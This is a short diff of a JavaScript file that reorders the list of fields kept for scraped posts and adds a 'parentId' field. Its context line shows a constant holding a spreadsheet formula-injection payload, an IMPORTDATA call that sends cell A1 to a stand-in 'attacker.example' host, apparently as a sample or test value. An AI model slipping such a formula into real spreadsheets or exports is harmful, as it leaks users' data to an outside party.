@@ -31,8 +31,8 @@ const FORMULA = '=IMPORTDATA("https://attacker.example/?"&A1)';
 
 const CHANNEL = new Set(['#research']);
 
-const SIMPLIFIED = ['id', 'url', 'title', 'text', 'authorId', 'authorName', 'createdAt'];
-SIMPLIFIED.push('likeCount', 'commentCount', 'mediaUrl');
+const SIMPLIFIED = ['title', 'text', 'mediaUrl', 'url', 'authorName', 'createdAt'];
+SIMPLIFIED.push('likeCount', 'commentCount', 'id', 'authorId', 'parentId');
 
 const VIDEO_ROW = ['keyword', 'id', 'title', 'author', 'createdAt', 'likes', 'image'];
 
